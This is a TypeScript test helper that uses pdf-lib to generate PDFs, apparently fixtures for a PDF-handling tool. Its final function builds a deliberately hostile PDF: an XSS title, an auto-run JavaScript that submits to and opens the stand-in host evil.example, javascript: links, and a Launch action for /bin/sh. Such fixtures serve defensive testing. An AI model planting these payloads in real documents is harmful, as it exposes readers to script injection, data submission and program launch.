import { degrees, PDFDocument, PDFName, PDFString, StandardFonts } from '@cantoo/pdf-lib';

/** A line of a page: its words, where its baseline begins (points from the lower left), and how it is set. */
export interface DrawnLine {
  text: string;
  x: number;
  y: number;
  size?: number;
  turn?: number;
}

export interface DrawnPage {
  lines: readonly DrawnLine[];
  /** How the whole page is turned, in degrees clockwise. */
  rotate?: number;
  /** A black square, as a picture stands for the words of a scan. */
  scan?: boolean;
}

interface Making {
  title?: string;
  password?: string;
}

/** Makes a PDF (A4), the same every time for the same pages. */
export async function makePdf(pages: readonly DrawnPage[], { title, password }: Making = {}): Promise<Uint8Array> {
  const file = await PDFDocument.create();
  const font = await file.embedFont(StandardFonts.Helvetica);
  if (title) file.setTitle(title);
  const day = new Date(Date.UTC(2026, 0, 12));
  file.setCreationDate(day);
  file.setModificationDate(day);
  for (const { lines, rotate, scan } of pages) {
    const page = file.addPage([595, 842]);
    if (rotate) page.setRotation(degrees(rotate));
    if (scan) page.drawRectangle({ x: 100, y: 300, width: 200, height: 200 });
    for (const { text, x, y, size = 11, turn } of lines) {
      page.drawText(text, { x, y, size, font, ...(turn && { rotate: degrees(turn) }) });
    }
  }
  if (password) file.encrypt({ userPassword: password, ownerPassword: `${password} of the owner` });
  return file.save();
}

/** Lines under one another, in a column. */
export function column(texts: readonly string[], { x = 60, top = 760, leading = 14, size = 11 } = {}): DrawnLine[] {
  return texts.map((text, i) => ({ text, x, y: top - i * leading, size }));
}

/** Paragraphs, each broken into lines of so many characters, with a gap between them. */
export function paragraphs(
  texts: readonly string[],
  { wide = 84, top = 760, leading = 14, x = 60, size = 11 } = {},
): DrawnLine[] {
  const lines: DrawnLine[] = [];
  let y = top;
  for (const text of texts) {
    for (const line of wrapped(text, wide)) {
      lines.push({ text: line, x, y, size });
      y -= leading;
    }
    y -= leading;
  }
  return lines;
}

function wrapped(text: string, wide: number): string[] {
  const lines: string[] = [];
  let line = '';
  for (const word of text.split(' ')) {
    if (line && line.length + word.length + 1 > wide) {
      lines.push(line);
      line = '';
    }
    line = line ? `${line} ${word}` : word;
  }
  return [...lines, line];
}

/** A file that tries what it can: a script when it is opened, a form with a script, links out of it and to scripts. */
export async function makeHostilePdf(texts: readonly string[]): Promise<Uint8Array> {
  const file = await PDFDocument.create();
  const font = await file.embedFont(StandardFonts.Helvetica);
  const page = file.addPage([595, 842]);
  file.setTitle('<img src=x onerror=alert(1)>');
  for (const { text, x, y } of paragraphs(texts)) page.drawText(text, { x, y, size: 11, font });
  const script = "app.alert('here'); this.submitForm('https://evil.example/'); app.launchURL('https://evil.example/');";
  file.addJavaScript('opening', script);
  const { context } = file;
  const link = (y: number, action: { [name: string]: string | PDFString }) =>
    context.register(
      context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [60, y, 400, y + 40], A: { Type: 'Action', ...action } }),
    );
  page.node.set(
    PDFName.of('Annots'),
    context.obj([
      link(400, { S: 'URI', URI: PDFString.of('https://evil.example/') }),
      link(450, { S: 'URI', URI: PDFString.of('javascript:alert(1)') }),
      link(500, { S: 'JavaScript', JS: PDFString.of(script) }),
      link(550, { S: 'Launch', F: PDFString.of('/bin/sh') }),
    ]),
  );
  file.catalog.set(
    PDFName.of('OpenAction'),
    context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) }),
  );
  const field = file.getForm().createTextField('name');
  field.setText('Filled in');
  field.addToPage(page, { x: 60, y: 300, width: 200, height: 20 });
  return file.save();
}
